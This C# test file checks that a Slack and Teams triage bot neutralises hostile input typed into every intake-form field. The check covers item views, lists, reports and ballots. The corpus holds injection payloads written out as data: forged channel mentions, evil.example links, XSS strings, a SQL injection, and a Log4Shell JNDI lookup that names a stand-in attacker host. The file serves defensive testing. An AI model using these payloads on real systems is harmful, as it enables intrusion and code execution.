using System.Net;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Microsoft.Extensions.DependencyInjection;
using TriageBot.Core.Backlogs;
using TriageBot.Core.Conversation;
using TriageBot.Core.Items;
using TriageBot.Core.Reports;
using TriageBot.Core.Views;
using TriageBot.Slack.Tests;
using TriageBot.Teams.Cards;
using TriageBot.Teams.Tests.Fakes;
using TriageBot.Tests.Slack;
using static TriageBot.Tests.Hostile.SlackWire;
using static TriageBot.Tests.Slack.SlackFlows;
using static TriageBot.Tests.Slack.SlackHost;

namespace TriageBot.Tests.Hostile;

/// <summary>
/// Hostile text typed into every field of the intake form, then shown back through <c>show</c>, every list, every
/// report and the clinic ballot. In Slack (through the real host and its fake Slack) no mrkdwn or plain text carries a
/// mention, special command or link the bot did not make itself, and every payload type-checks against @slack/types;
/// in Teams (the same items rendered as Adaptive Cards) no text renders a markdown link or an &lt;at&gt; mention, and
/// every card is schema-valid and parses with the official renderer.
/// </summary>
public sealed partial class InjectionCorpusTests
{
    /// <summary>At least 50 strings that try to become a mention, a link, markup, or to break a payload.</summary>
    public static readonly string[] Corpus =
    [
        "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!subteam^S0HOSTILE|@team>", "<!date^1392734382^{date}|x>",
        "<@U0HOSTILE>", "<@W0HOSTILE|boss>", "<#C0HOSTILE|general>", "<http://evil.example|click me>", "<https://evil.example>",
        "<mailto:a@evil.example|mail>", "@channel @here @everyone", "<<!here>>", "&lt;!channel&gt;", "&amp;lt;@U0HOSTILE&amp;gt;",
        "*bold* _it_ ~strike~ `code` ```block```", "> quoted\n> twice", "[click](https://evil.example)", "![img](https://evil.example/x.png)",
        "[TRI-1](javascript:alert(1))", "**bold** __under__", "# heading\n- list\n1. numbered", "<at>Ada Lovelace</at>", "<at id=\"0\">Ada</at>",
        "<a href=\"https://evil.example\">x</a>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>bold</b><br/>",
        "\u200B<!channel>\u200B", "<\u200B!channel>", "<!\u200Bchannel>", "\u202Eerutangis\u202C <!here>", "\u2066isolated\u2069 <@U0HOSTILE>",
        "\uFEFFbom", "\u00A0nbsp\u00A0", "line1\n<!channel>\nline3", "tab\tand\rcarriage", "\u0001\u0007control\u001F",
        "👩‍👩‍👧‍👦 family 😀", "Ω≈ç√∫˜µ≤≥÷ 田中さん 𝕳𝖊𝖑𝖑𝖔", new string('x', 10_000), "word " + new string('y', 9_994),
        string.Concat(Enumerable.Repeat("<!channel>", 400)), string.Concat(Enumerable.Repeat("&", 3000)),
        "\"}]}, {\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"<!channel>\"}}", "{\"type\":\"AdaptiveCard\",\"body\":[]}",
        "\\\"\\\\\\u0000", "'; DROP TABLE items; --", "${jndi:ldap://evil.example/a}", "{{7*7}} {0} %s %n", "TRI-1 TRI-99999", "https://evil.example/naked",
        "<https://triage.example.com/forged|looks internal>", "[[nested](x)](y)", "\\[escaped\\](x)", "-1", "   padded   ",
    ];

    private static readonly Regex SlackTokens = SlackTokenPattern();
    private static readonly Regex MarkdownLink = MarkdownLinkPattern();
    private static readonly Regex AtMention = AtMentionPattern();

    [Fact]
    public async Task HostileText_ThroughIntakeAndEveryView_NeverBecomesAMentionOrALink_AndNeverBreaksAPayload()
    {
        Corpus.Length.ShouldBeGreaterThanOrEqualTo(50);
        await using var h = await SlackHost.StartAsync();
        await SetUpChannelAsync(h);
        await MakeEliEngineerAsync(h);

        WorkStream[] streams = [WorkStream.Bug, WorkStream.Feature, WorkStream.Model, WorkStream.Incident];
        var confirmations = new List<(string Name, JsonObject View)>();
        for (var i = 0; i < Corpus.Length; i++)
        {
            var modal = IntakeModal(streams[i % streams.Length]);
            var values = new Dictionary<string, string?>();
            foreach (var block in modal["blocks"]!.AsArray().Select(b => b!.AsObject()).Where(b => (string?)b["type"] == "input"))
            {
                if ((string?)block["element"]!["type"] == "plain_text_input")
                {
                    var id = (string)block["block_id"]!;
                    values[id] = id == "title" ? Clip($"#{i} {Corpus[i]}", 150) : Clip(Corpus[i], 3000);
                }
            }

            // Features are reported by the facilitator, who alone may set their success metric, so hostile metrics reach the views too.
            // Fields with a format (links, numbers) refuse free text, as they should: those get a hostile value of their own kind.
            for (var attempt = 1; ; attempt++)
            {
                using var response = await h.Client.SendAsync(Signed("/slack/interactivity", Utf8(Interactivity(Submission(streams[i % streams.Length] == WorkStream.Feature ? Ada : Members[i % Members.Length], modal, values))), FormType));
                var answer = await response.Content.ReadAsStringAsync();
                response.StatusCode.ShouldBe(HttpStatusCode.OK, $"#{i}");
                var json = JsonNode.Parse(answer)!;
                if ((string?)json["response_action"] == "update")
                {
                    // The confirmation modal repeats the hostile title: it is checked with the other modals below.
                    var duplicates = json["view"]!["blocks"]!.AsArray().Any(b => (string?)b!["block_id"] == "duplicateOf");
                    confirmations.Add(($"{(duplicates ? "duplicates" : "confirmation")}{i}_{attempt}", json["view"]!.AsObject()));
                    if (duplicates)
                    {
                        // The corpus repeats words, so the form may list possible duplicates (hostile titles, checked too): file anyway.
                        modal = json["view"]!.AsObject();
                        values["duplicateOf"] = "new";
                        continue;
                    }

                    break;
                }

                attempt.ShouldBeLessThan(3, $"#{i} was refused: {answer}");
                foreach (var (field, _) in json["errors"]!.AsObject())
                {
                    values[field] = field switch
                    {
                        _ when field.Contains("link", StringComparison.OrdinalIgnoreCase) => attempt == 1 ? $"https://evil.example/{i}?q=<!channel>|click>" : $"https://evil.example/{i}",
                        "touches" => "model, bug",
                        "title" => $"Hostile title {i}",
                        _ => "1",
                    };
                }
            }
        }

        var items = await ItemsAsync(h.Store);
        items.Count.ShouldBe(Corpus.Length);
        foreach (var item in items)
        {
            (await h.CommandAsync(Ada, $"show {item.Key}")).StatusCode.ShouldBe(HttpStatusCode.OK);
        }

        foreach (var command in new[] { "list", "list bug", "list feature", "list model", "list incident", "queue", "icebox", "report weekly", "report allocation", "report icebox", "clinic" })
        {
            (await h.CommandAsync(Ada, command)).StatusCode.ShouldBe(HttpStatusCode.OK, command);
        }

        await h.WaitForCallsAsync("chat.postMessage", 1);
        await Eventually.Async(async () => await h.Store.Outbox.CountPendingAsync(default) == 0 ? "" : null, "the clinic and reports to go out", TimeSpan.FromSeconds(60));

        // ---- Slack: every message the bot answered or sent ----
        var messages = h.CommandReplies.Select((r, n) => ($"reply{n}", new JsonObject { ["text"] = r["text"]?.DeepClone(), ["blocks"] = r["blocks"]?.DeepClone() ?? new JsonArray() }))
            .Concat(h.Api.Calls.Where(c => c.Method is "chat.postMessage" or "chat.update" or "chat.postEphemeral").Select((c, n) => ($"{c.Method.Replace('.', '_')}{n}", Message(c))))
            .ToList();
        var modals = h.Api.CallsTo("views.open").Select((c, n) => ($"modal{n}", c.Json["view"]!.AsObject())).Concat(confirmations).ToList();
        messages.Count(m => TextOf(m.Item2).Contains("Scoring TRI-", StringComparison.Ordinal)).ShouldBeGreaterThanOrEqualTo(items.Count, "a ballot per item");

        var violations = new List<string>();
        foreach (var (name, json) in messages.Concat(modals))
        {
            foreach (var text in MrkdwnTexts(json))
            {
                foreach (Match m in SlackTokens.Matches(text))
                {
                    if (!IsTheBotsOwn(m.Value))
                    {
                        violations.Add($"{name}: '{m.Value}' in «{Clip(text, 200)}»");
                    }
                }
            }
        }

        violations.ShouldBeEmpty(string.Join("\n", violations.Take(10)));
        var typeCheck = await BlockKitTypeCheck.CompileAsync(
            messages.Select(m => BlockKitTypeCheck.Message(m.Item1, m.Item2)).Concat(modals.Select(m => BlockKitTypeCheck.Modal(m.Item1, m.Item2))));
        typeCheck.Code.ShouldBe(0, typeCheck.Output.Length > 3000 ? typeCheck.Output[..3000] : typeCheck.Output);

        // ---- Teams: the same items, lists, reports and ballots as Adaptive Cards ----
        var conversation = h.Services.GetRequiredService<IConversation>();
        var resolver = h.Services.GetRequiredService<IViewResolver>();
        var place = new ConversationAddress { Platform = Platform.Slack, Workspace = Team, ChannelId = Channel };
        var cards = new List<(string Name, JsonObject Card)>();
        async Task AddAsync(string name, string command)
        {
            var outcome = await conversation.HandleAsync(new Interaction(new UserRef(Platform.Slack, Ada.Id, Ada.Name), place, new CommandIntent(command), DateTimeOffset.UtcNow), default);
            var view = outcome switch { ReplyOutcome r => r.View, UpdateCardOutcome u => u.View, _ => null };
            cards.Add((name, AdaptiveCardRenderer.Render(view.ShouldNotBeNull($"{command} answered {outcome.GetType().Name}"))));
        }

        foreach (var item in items)
        {
            await AddAsync($"show-{item.Number}", $"show {item.Key}");
            var ballot = await resolver.ResolveAsync(new LiveBallotView(BacklogId, item.Number), default);
            cards.Add(($"ballot-{item.Number}", AdaptiveCardRenderer.Render(ballot.ShouldNotBeNull())));
        }

        foreach (var command in new[] { "list", "list bug", "list feature", "list model", "list incident", "queue", "icebox" })
        {
            await AddAsync(command.Replace(' ', '-'), command);
        }

        foreach (var kind in Enum.GetValues<ReportKind>())
        {
            cards.Add(($"report-{kind}", AdaptiveCardRenderer.Render((await resolver.ResolveAsync(new LiveReportView(BacklogId, kind), default)).ShouldNotBeNull())));
        }

        var cardViolations = new List<string>();
        foreach (var (name, card) in cards)
        {
            foreach (var text in Texts(card))
            {
                if (MarkdownLink.IsMatch(text) || AtMention.IsMatch(text))
                {
                    cardViolations.Add($"{name}: «{Clip(text, 200)}»");
                }
            }

            if (card["msteams"]?["entities"] is JsonArray { Count: > 0 })
            {
                cardViolations.Add($"{name}: mention entities");
            }
        }

        cardViolations.ShouldBeEmpty(string.Join("\n", cardViolations.Take(10)));
        var folder = Directory.CreateTempSubdirectory("triagebot-injection-cards-").FullName;
        try
        {
            foreach (var (name, card) in cards)
            {
                await File.WriteAllTextAsync(Path.Combine(folder, name + ".json"), card.ToJsonString());
            }

            var report = await NodeTools.RunAsync("validate-cards.mjs", NodeTools.SchemaPath("adaptive-card-1.5.0.schema.json"), folder);
            var files = report["files"]!.AsArray();
            files.Count.ShouldBe(cards.Count);
            foreach (var file in files)
            {
                var name = file!["file"]!.GetValue<string>();
                file["schemaErrors"]!.AsArray().ShouldBeEmpty($"{name}: {file["schemaErrors"]!.ToJsonString()}");
                file["parseEvents"]!.AsArray().ShouldBeEmpty($"{name}: {file["parseEvents"]!.ToJsonString()}");
            }
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    /// <summary>Mentions and links the bot makes itself: people it knows (the set-up members) and its own and Slack's URLs.</summary>
    private static bool IsTheBotsOwn(string token) =>
        token.StartsWith("<https://example.slack.com/", StringComparison.Ordinal)
        || token is "<@U1" or "<@U2" or "<@U3" or "<@U4" or "<@U5" or "<@U6";

    /// <summary>
    /// The texts Slack parses for mentions and links: every mrkdwn text object, and a message's top-level fallback text
    /// (notifications). plain_text objects are shown literally, so a "&lt;!channel&gt;" typed by a person stays text there.
    /// </summary>
    private static IEnumerable<string> MrkdwnTexts(JsonObject root)
    {
        if (root["text"] is JsonValue top && top.TryGetValue<string>(out var fallback))
        {
            yield return fallback;
        }

        foreach (var text in Walk(root))
        {
            yield return text;
        }

        static IEnumerable<string> Walk(JsonNode? node)
        {
            switch (node)
            {
                case JsonObject o when (string?)o["type"] == "mrkdwn" && o["text"] is JsonValue v && v.TryGetValue<string>(out var s):
                    yield return s;
                    break;
                case JsonObject o:
                    foreach (var inner in o.Select(kv => kv.Value).SelectMany(Walk))
                    {
                        yield return inner;
                    }

                    break;
                case JsonArray a:
                    foreach (var inner in a.SelectMany(Walk))
                    {
                        yield return inner;
                    }

                    break;
            }
        }
    }

    /// <summary>Every "text" string in a payload (mrkdwn, plain_text, TextBlock, fact values, placeholders…).</summary>
    private static IEnumerable<string> Texts(JsonNode? node)
    {
        switch (node)
        {
            case JsonObject o:
                foreach (var (key, value) in o)
                {
                    if (value is JsonValue v && v.TryGetValue<string>(out var s) && key is "text" or "title" or "value" or "fallback" or "placeholder" or "label")
                    {
                        yield return s;
                    }
                    else
                    {
                        foreach (var inner in Texts(value))
                        {
                            yield return inner;
                        }
                    }
                }

                break;
            case JsonArray a:
                foreach (var inner in a.SelectMany(Texts))
                {
                    yield return inner;
                }

                break;
        }
    }

    private static string Clip(string s, int max) => s.Length <= max ? s : s[..max];

    /// <summary>The starts of Slack's control sequences: special mentions, user and channel mentions, links.</summary>
    [GeneratedRegex(@"<(![a-z]|@[UWB]?[A-Z0-9]*|#C?|https?:|mailto:)", RegexOptions.IgnoreCase)]
    private static partial Regex SlackTokenPattern();

    /// <summary>A markdown link Adaptive Cards would render: [text](target) with neither bracket escaped.</summary>
    [GeneratedRegex(@"(?<!\\)\[[^\]]*(?<!\\)\]\(")]
    private static partial Regex MarkdownLinkPattern();

    [GeneratedRegex(@"(?<!\\)<at[\s>]", RegexOptions.IgnoreCase)]
    private static partial Regex AtMentionPattern();
}
